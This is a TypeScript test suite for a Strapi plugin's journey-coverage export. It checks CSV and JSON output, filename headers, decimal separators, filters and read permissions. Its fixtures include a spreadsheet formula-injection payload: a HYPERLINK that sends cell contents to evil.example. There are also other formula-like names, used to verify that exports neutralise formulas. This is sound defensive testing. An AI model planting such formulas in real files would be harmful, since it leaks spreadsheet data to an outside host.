import type { JourneyDefinitionInput } from '../../types';
import { addLocales, createEntry, importJourney, JOURNEY, place } from '../support/site';
import { bootStrapi, type AdminClient, type Fixture } from '../support/strapi';

let fixture: Fixture;
const READ = { action: 'plugin::touchpoints.read' };
const ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

const DEFINITION: JourneyDefinitionInput = {
  ...JOURNEY,
  stages: JOURNEY.stages.map((stage, index) => (index === 1 ? { ...stage, name: '@SUM(A1:A9)' } : stage)),
  touchpoints: JOURNEY.touchpoints!.map((touchpoint) =>
    touchpoint.slug === 'newsletter' ? { ...touchpoint, name: '+Newsletter; =1+1', channel: '-email' } : touchpoint,
  ),
  moments: [
    ...JOURNEY.moments!.filter(({ touchpoint }) => touchpoint !== 'homepage'),
    {
      stage: 'awareness',
      touchpoint: 'homepage',
      target: 3,
      owner: ATTACK,
      dueDate: '2020-01-31',
      brief: 'One clear promise,\n=2+5\nand "no" more; -3',
    },
  ],
};

const get = (query: string, client: AdminClient = fixture.admin) => client.get(`/coverage/export?${query}`);
const textOf = async (query: string, client?: AdminClient): Promise<string> =>
  (await get(query, client).responseType('blob').expect(200)).body.toString('utf8');

/** The rows of a CSV whose every text is quoted, by the headings of the first. */
const rowsOf = (csv: string, delimiter: string): Record<string, string>[] => {
  const records = [...csv.slice(1).matchAll(/((?:"(?:[^"]|"")*"|[^"\r\n])*)\r\n/g)].map(([, line]) =>
    [...`${delimiter}${line}`.matchAll(new RegExp(`${delimiter}(?:"((?:[^"]|"")*)"|([^"${delimiter}]*))`, 'g'))].map(
      ([, quoted, plain]) => (quoted === undefined ? plain! : quoted.replaceAll('""', '"')),
    ),
  );
  const [headings = [], ...rows] = records;
  return rows.map((row) => Object.fromEntries(headings.map((heading, index) => [heading, row[index]!])));
};

beforeAll(async () => {
  fixture = await bootStrapi();
  await addLocales(fixture.strapi, ['de']);
  await importJourney(fixture.admin, DEFINITION);
  const home = await createEntry(fixture.strapi, 'article', { title: 'A secret title' });
  await place(fixture.admin, 'article', home, { stage: 'awareness', touchpoint: 'homepage' });
});
afterAll(() => fixture?.stop());

test('every cell of the grid with all its figures, under readable headings', async () => {
  const csv = await textOf('format=csv&locale=en');
  const rows = rowsOf(csv, ',');
  const { moments } = (await fixture.admin.get('/coverage?locale=en').expect(200)).body.data;
  expect(rows).toHaveLength(moments.length);
  expect(rows.map((row) => [row.Have, row.Live, row.Points])).toEqual(
    moments.map((moment: Record<string, number>) => [moment.have, moment.live, moment.points].map(String)),
  );
  expect(rows.find((row) => row.Touchpoint === 'Homepage')).toEqual({
    Stage: 'Awareness',
    Touchpoint: 'Homepage',
    Channel: 'website',
    Phase: 'pre-purchase',
    State: 'Needs more',
    Status: 'Planned',
    Have: '1',
    Target: '3',
    Missing: '2',
    Live: '1',
    'Lives elsewhere': '0',
    'For named segments': '0',
    'Only for segments': '0',
    'Those segments': '',
    Drafts: '0',
    Scheduled: '0',
    Expiring: '0',
    'Review due': '0',
    'Needs an update': '0',
    'For the whole stage': '0',
    'Can’t be reached': '0',
    'Not among the first': '0',
    'Missing content': '0',
    'Missing locales': 'de',
    'Missing segments': '',
    Impact: '4',
    Points: expect.stringMatching(/^\d+\.\d$/),
    Priority: '2.67',
    Owner: `'${ATTACK}`,
    Due: '2020-01-31',
    Overdue: 'yes',
    Brief: 'One clear promise,\n=2+5\nand "no" more; -3',
  });
  expect(rows.find((row) => row.Touchpoint === 'Whole stage')).toMatchObject({ Stage: 'Awareness', Impact: '3' });
});

test('no name, owner or brief of a plan becomes a formula', async () => {
  for (const list of ['cells', 'gaps']) {
    for (const delimiter of ['comma', 'semicolon']) {
      const csv = await textOf(`list=${list}&delimiter=${delimiter}`);
      expect(csv).toContain("'@SUM");
      const cells = rowsOf(csv, delimiter === 'comma' ? ',' : ';').flatMap((row) => Object.values(row));
      const formulas = cells.filter((cell) => /^[\s"]*[=+\-@]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell));
      expect(formulas).toEqual([]);
    }
  }
});

test('a file for spreadsheets: its name, its mark, its kind', async () => {
  const { headers } = await get('locale=en').expect(200);
  expect(headers['content-type']).toBe('text/csv; charset=utf-8');
  const day = new Date().toISOString().slice(0, 10);
  expect(headers['content-disposition']).toBe(`attachment; filename="coverage-customer-journey-${day}.csv"`);
  expect((await textOf('')).codePointAt(0)).toBe(0xfeff);
  const gaps = await get('list=gaps&at=2030-01-02').expect(200);
  expect(gaps.headers['content-disposition']).toContain('gaps-customer-journey-2030-01-02.csv');
  // The end of a day in Los Angeles is the next day in UTC: the file is of the day that the person chose.
  const chosen = await get('at=2030-01-03T07:59:59.999Z&today=2030-01-02').expect(200);
  expect(chosen.headers['content-disposition']).toContain('coverage-customer-journey-2030-01-02.csv');
});

test('with semicolons the numbers have a decimal comma', async () => {
  const [first] = rowsOf(await textOf('list=gaps&delimiter=semicolon&locale=en'), ';');
  expect(first).toMatchObject({ Touchpoint: 'Homepage', Missing: '2', Priority: '2,67' });
});

test('gaps are ranked; the filters narrow what is exported', async () => {
  const { data } = (await fixture.admin.get('/gaps?locale=en').expect(200)).body;
  const rows = rowsOf(await textOf('list=gaps&locale=en'), ',');
  expect(rows.map((row) => row.Points)).toEqual(data.map(({ points }: { points: number }) => String(points)));
  expect(rowsOf(await textOf('contentTypes=api::page.page'), ',').every((row) => row.Live === '0')).toBe(true);
  expect(rowsOf(await textOf('locale=en&channel=website&state=thin'), ',').map((row) => row.Touchpoint)).toEqual([
    'Homepage',
  ]);
});

test('JSON: coverage or gaps with their briefs, and what they were asked for', async () => {
  const cells = JSON.parse(await textOf('format=json&locale=en&channel=website'));
  expect(cells.meta).toMatchObject({
    journey: 'customer-journey',
    filters: { locale: 'en', channel: ['website'] },
    at: expect.stringMatching(/^\d{4}-/),
    revision: expect.any(Number),
  });
  expect(cells.data.moments.find(({ brief }: { brief: string | null }) => brief)).toMatchObject({ owner: ATTACK });
  const gaps = JSON.parse(await textOf('format=json&list=gaps'));
  expect(gaps.data[0]).toMatchObject({ missing: 2, stage: 'awareness', touchpoint: 'homepage' });
});

test('it names no entry, and needs the permission to read', async () => {
  for (const format of ['csv', 'json']) expect(await textOf(`format=${format}`)).not.toContain('secret title');
  await get('', await fixture.adminWith([READ])).expect(200);
  await get('', await fixture.adminWith([{ action: 'plugin::touchpoints.plan' }])).expect(403);
  for (const query of ['format=xls', 'list=entries', 'delimiter=tab', 'journey=none', 'locale=xx', 'nonsense=1']) {
    await get(query).expect(400);
  }
});

test('gaps as the list shows them: of a status, in an order, by the names of their owners', async () => {
  const assign = (cell: object, owner: string) =>
    fixture.admin.post('/gaps/assign', { cells: [cell], owner }).expect(200);
  await assign({ stage: 'awareness' }, 'ADA@example.com');
  await assign({ stage: 'consideration', touchpoint: 'newsletter' }, 'gone@example.com');
  const listed = async (query: string) => (await fixture.admin.get(`/gaps?${query}`).expect(200)).body.data;
  for (const query of ['sort=owner:asc', 'sort=missing:asc', 'status=open', 'status=planned,done&sort=stage:desc']) {
    const { data } = JSON.parse(await textOf(`format=json&list=gaps&locale=en&${query}`));
    const list = await listed(`locale=en&${query}`);
    expect(data.map(({ brief: _, ...gap }: { brief: unknown }) => gap)).toEqual(list);
  }
  const rows = rowsOf(await textOf('list=gaps&locale=en&status=planned&sort=owner:asc'), ',');
  expect(rows.map((row) => row.Owner)).toEqual([`'${ATTACK}`, 'Ada Admin', 'gone@example.com']);
  expect(rowsOf(await textOf('list=gaps&owner=me'), ',').map((row) => row.Owner)).toEqual(['Ada Admin']);
  for (const query of ['list=gaps&status=late', 'list=gaps&sort=brief', 'status=open', 'sort=owner:asc']) {
    await get(query).expect(400);
  }
});
